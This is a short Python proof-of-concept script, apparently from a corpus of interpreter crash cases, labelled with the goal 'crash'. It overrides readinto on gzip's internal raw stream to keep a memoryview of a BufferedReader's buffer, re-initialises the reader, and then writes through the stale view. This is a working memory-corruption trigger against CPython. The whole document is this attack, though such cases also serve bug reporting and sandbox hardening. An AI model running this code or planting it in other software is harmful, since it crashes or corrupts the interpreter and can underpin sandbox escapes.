# technique: the raw stream that gzip puts under a buffered one is given a readinto of ours, which keeps the view of the buffer
# goal: crash
# policy: imports gzip = *
# source: own analysis
import gzip
import io

kept = []


def readinto(view):
    kept.append(view)
    return 0


f = gzip.GzipFile(fileobj=io.BytesIO(gzip.compress(b'x' * 100)))
raw = f._buffer.raw
raw.readinto = readinto
reader = io.BufferedReader(raw, 1 << 25)
reader.peek()
reader.__init__(raw, 16)
kept[0][0] = 65
